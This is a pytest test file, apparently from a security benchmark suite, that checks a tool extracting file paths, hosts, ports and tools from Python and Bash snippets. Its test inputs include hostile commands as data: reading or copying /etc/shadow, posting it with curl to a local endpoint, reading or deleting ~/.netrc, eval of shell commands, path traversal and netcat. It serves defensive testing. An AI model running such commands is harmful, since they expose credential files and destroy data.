"""What programs name, as the worlds of the published data are made from it."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from redblue.suite.redcode.named import Named, split_pattern
from redblue.suite.redcode.named_bash import named_in_bash
from redblue.suite.redcode.named_python import named_in_python


@pytest.mark.parametrize(
    ("code", "paths"),
    [
        ("open('/etc/shadow').read()", ["/etc/shadow"]),
        ("import os\nopen(os.path.join('/usr', '../etc/hosts'))", ["/etc/hosts"]),
        ("base = '/srv'\nname = 'a.txt'\nopen(base + '/' + name)", ["/srv/a.txt"]),
        ("folder = '/srv'\nopen(f'{folder}/b.txt')", ["/srv/b.txt"]),
        ("from pathlib import Path\n(Path('/srv') / 'c' / 'd.txt').read_text()", ["/srv/c/d.txt"]),
        ("def read(folder, name):\n  return open(folder + '/' + name)\nread('/srv', 'e.txt')", ["/srv/e.txt"]),
        ("def read(path='/srv/f.txt'):\n  return open(path)\nread()", ["/srv/f.txt"]),
        ("for path in ['/srv/g', '/srv/h']:\n  open(path)", ["/srv/g", "/srv/h"]),
        ("class Reader:\n  def __init__(self, path):\n    self.path = path\nReader('/srv/i')", ["/srv/i"]),
        ("open('/'.join(['', 'srv', 'j']))", ["/srv/j"]),
        ("eval(\"__import__('os').system('ls -a /app/')\")", ["/app"]),
        ("import glob\nglob.glob('/var/log/*.log')", ["/var/log/*.log"]),
        ("import shutil\nshutil.copy('/etc/shadow', '/usr/copy_file')", ["/etc/shadow"]),
        ("data = open('/etc/shadow').read()\nopen('/usr/copy_file', 'w').write(data)", ["/etc/shadow"]),
        ("import os\nopen(os.path.expanduser('~/.netrc'))", ["/root/.netrc"]),
        ("print('no/path here, nor http://localhost:8080/there')", []),
        ("this is no Python", []),
    ],
)
def test_paths_of_python(code: str, paths: list[str]) -> None:
    assert named_in_python(code).paths == paths


@pytest.mark.parametrize(
    ("code", "paths"),
    [
        ("cat /etc/shadow", ["/etc/shadow"]),
        ("x='/etc/shadow'\ncat \"$x\"", ["/etc/shadow"]),
        ('a=/usr\nb="../etc/hosts"\ncat "$a/$b"', ["/etc/hosts"]),
        ('read_it() { local p="$1/$2"; cat "$p"; }\nread_it /srv a.txt', ["/srv/a.txt"]),
        ('for p in /srv/b /srv/c; do cat "$p"; done', ["/srv/b", "/srv/c"]),
        ("eval 'ls -a /app/'", ["/app"]),
        ("curl --data-binary @/etc/shadow http://127.0.0.1:5758/submit", ["/etc/shadow"]),
        ("cp /etc/shadow /usr/copy_file", ["/etc/shadow"]),
        ("cat /etc/shadow > /usr/copy_file", ["/etc/shadow"]),
        ("dd if=/etc/shadow of=/usr/copy_file", ["/etc/shadow"]),
        ("cat <<END\n/etc/shadow\nEND", ["/etc/shadow"]),
        ("rm ~/.netrc", ["/root/.netrc"]),
        ("#!/bin/bash\n# reads /etc/nothing\necho done", []),
    ],
)
def test_paths_of_bash(code: str, paths: list[str]) -> None:
    assert named_in_bash(code).paths == paths


def test_addresses_ports_and_tools() -> None:
    python = named_in_python(
        "import requests, yaml.nodes\nrequests.get('http://pages.example.org/a.html')\nconnect(5389)"
    )
    assert [url.hostname for url in python.urls] == ["pages.example.org"]
    assert python.hosts == ["pages.example.org"]
    assert python.ports == [5389]
    assert python.tools >= {"python:requests", "python:yaml"}
    bash = named_in_bash("echo x | nc -u 127.0.0.1 5388 && /usr/bin/curl https://pages.example.org")
    assert bash.ports == [5388]
    assert bash.tools >= {"nc", "curl"}
    assert [url.scheme for url in bash.urls] == ["https"]


def test_folders_that_paths_climb_out_of() -> None:
    assert named_in_python("open('/app/images/../../etc/hosts')").bases == ["/app/images"]
    assert named_in_bash('root=/app/images\nfile="../../etc/hosts"\ncat "$root/$1"').bases == ["/app/images"]


@pytest.mark.parametrize(
    ("path", "split"),
    [("/a/b", ("/a/b", "")), ("/a/*.txt", ("/a", "*.txt")), ("/*", ("/", "*")), ("/a/*/c", ("/a", "*"))],
)
def test_patterns(path: str, split: tuple[str, str]) -> None:
    assert split_pattern(path) == split


def test_letters_beyond_a_byte() -> None:
    """The grammar's scanner, given these as they are, ends the process."""
    assert named_in_bash("n\U00031acd\u00b2{\U0010d136\n")
    assert named_in_bash("cat '/srv/Menü 📁'").texts == ("cat", "/srv/Menü 📁")


@given(st.text(max_size=300))
def test_any_text_is_read(code: str) -> None:
    for named in (named_in_python(code), named_in_bash(code)):
        assert isinstance(named, Named)
        assert all(path.startswith("/") for path in named.paths)
        assert all(1024 < port < 65536 for port in named.ports)
        assert isinstance(named.urls + named.bases + named.hosts, list)


@pytest.mark.parametrize(
    "code",
    [
        "x = " + " + ".join(["'a'"] * 3_000),
        "a = 'x'\n" + "a = a + a\n" * 300,
        "\n".join(f"open('/srv/p{number}')" for number in range(5_000)),
        "(" * 5_000,
    ],
    ids=["a long sum", "a text doubled", "many paths", "deep nesting"],
)
def test_hostile_programs_are_read_all_the_same(code: str) -> None:
    assert len(named_in_python(code).paths) <= 200
    assert len(named_in_bash(code).paths) <= 200
